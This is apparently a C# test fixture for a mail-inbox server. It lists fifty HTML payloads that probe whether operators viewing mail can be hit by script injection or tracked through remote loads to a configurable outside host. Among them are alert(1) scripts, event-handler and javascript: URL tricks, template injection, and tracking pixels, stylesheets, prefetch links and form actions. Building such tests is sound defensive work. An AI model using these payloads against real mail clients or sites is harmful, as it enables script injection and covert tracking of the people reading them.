namespace Waybill.Server.Specs.Inbox;

/// <summary>
/// What somebody may write into a mail to get at the operator who looks at it: run a script, or learn that it was looked at.
/// </summary>
internal static class Payloads
{
    /// <summary>Fifty of them. Each calls <c>alert</c> where a script would run, or names a machine elsewhere.</summary>
    /// <param name="elsewhere">That machine, with its port.</param>
    public static IReadOnlyList<string> All(string elsewhere) =>
    [
        "<script>alert(1)</script>",
        $"<script src=//{elsewhere}/x.js></script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</pre><script>alert(1)</script>",
        "</iframe><script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "\"><img src=x onerror=alert(1)>",
        "\" autofocus onfocus=alert(1) x=\"",
        "' onmouseover='alert(1)",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        $"<svg><image href=\"http://{elsewhere}/x.svg\"/></svg>",
        $"<svg><use href=\"http://{elsewhere}/x.svg#a\"/></svg>",
        "<math><mtext></p><script>alert(1)</script>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
        $"<a href=\"http://{elsewhere}/x\" ping=\"http://{elsewhere}/ping\">x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        $"<iframe src=\"http://{elsewhere}/x\"></iframe>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        $"<object data=\"http://{elsewhere}/x\"></object>",
        $"<embed src=http://{elsewhere}/x.swf>",
        $"<meta http-equiv=refresh content=\"0;url=http://{elsewhere}\">",
        "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>alert(1)</script>\">",
        $"<base href=\"http://{elsewhere}/\"><img src=x>",
        $"<link rel=stylesheet href=http://{elsewhere}/x.css>",
        $"<link rel=preconnect href=http://{elsewhere}>",
        $"<link rel=dns-prefetch href=//{elsewhere}><link rel=prefetch href=http://{elsewhere}/x><link rel=preload as=image "
            + $"href=http://{elsewhere}/x>",
        $"<link rel=modulepreload href=http://{elsewhere}/x.js><link rel=icon href=http://{elsewhere}/x.ico>",
        $"<style>@import 'http://{elsewhere}/x.css';</style>",
        $"<style>body{{background:url(http://{elsewhere}/x.png)}}@font-face{{font-family:x;src:url(http://{elsewhere}/x.woff)}}*{{font-family:x}}</style>x",
        $"<p style=\"background:url('http://{elsewhere}/x.png');list-style:url(http://{elsewhere}/y.png)\">x</p>",
        $"<form action=http://{elsewhere}><input name=a autofocus><button>x</button></form>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<body onload=alert(1) onpageshow=alert(1)>",
        $"<img src=http://{elsewhere}/pixel.png>",
        $"<img srcset=\"http://{elsewhere}/a.png 1x, http://{elsewhere}/b.png 2x\"><picture><source "
            + $"srcset=http://{elsewhere}/c.webp><img></picture>",
        $"<video poster=http://{elsewhere}/x.png src=http://{elsewhere}/x.mp4 autoplay></video><audio src=http://{elsewhere}/x.mp3 "
            + $"autoplay></audio>",
        $"<table background=http://{elsewhere}/x.png><tr><td>x</table>",
        $"<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"http://{elsewhere}/x\"]}}]}}</script>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
        "<template><script>alert(1)</script></template><x contenteditable onfocus=alert(1) tabindex=0 autofocus>x",
        "{{constructor.constructor('alert(1)')()}}&lt;script&gt;alert(1)&lt;/script&gt;",
    ];
}
